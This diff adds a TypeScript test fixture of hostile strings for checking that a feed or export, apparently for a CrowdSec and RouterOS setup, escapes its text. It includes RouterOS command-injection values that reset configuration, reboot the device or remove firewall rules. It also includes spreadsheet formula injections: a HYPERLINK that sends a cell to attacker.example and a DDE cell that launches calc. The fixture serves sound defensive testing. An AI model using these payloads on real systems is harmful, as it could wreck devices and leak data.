@@ -1,0 +1,42 @@
+/** Texts an attacker would put where a feed or an export writes text: each tries to break its syntax. */
+export const HOSTILE_TEXTS: readonly string[] = [
+  'x" ; /system reset-configuration ; :put "',
+  'back\\slash\\',
+  '\\"',
+  '$[/system reboot]',
+  '$(:put 1)',
+  '$var and $CrowdSecAddIP',
+  'a;b; /ip firewall filter remove [find]',
+  'line\nbreak\n$CrowdSecAddIP "203.0.113.66" "x" "1s"',
+  'carriage\rreturn',
+  'tab\there',
+  ',',
+  'a,b,c',
+  '1.2.3.4,32,bl,evil\n5.6.7.8,32,bl,evil',
+  '{ /system reboot }',
+  '[find] ? help',
+  'ünïcødé 🚫 кириллица',
+  'nul\0byte',
+  '\u0007\u0008\u000b\u000c\u007f controls',
+  'x'.repeat(5000),
+  '# comment',
+  "manual 'ban' from 'cli'",
+  'crowdsecurity/ssh-bf',
+];
+
+/** Cells a spreadsheet would evaluate: a ban reason must come back from a CSV export as text. */
+export const FORMULA_TEXTS: readonly string[] = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(A1:A2)',
+  '\t=1+1',
+  '\r=1+1',
+  '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
+  "'=already quoted",
+  "''=twice",
+  "'plain apostrophe",
+  "=cmd|' /C calc'!A0",
+  'ok, with a comma',
+  'say "hi"',
+];
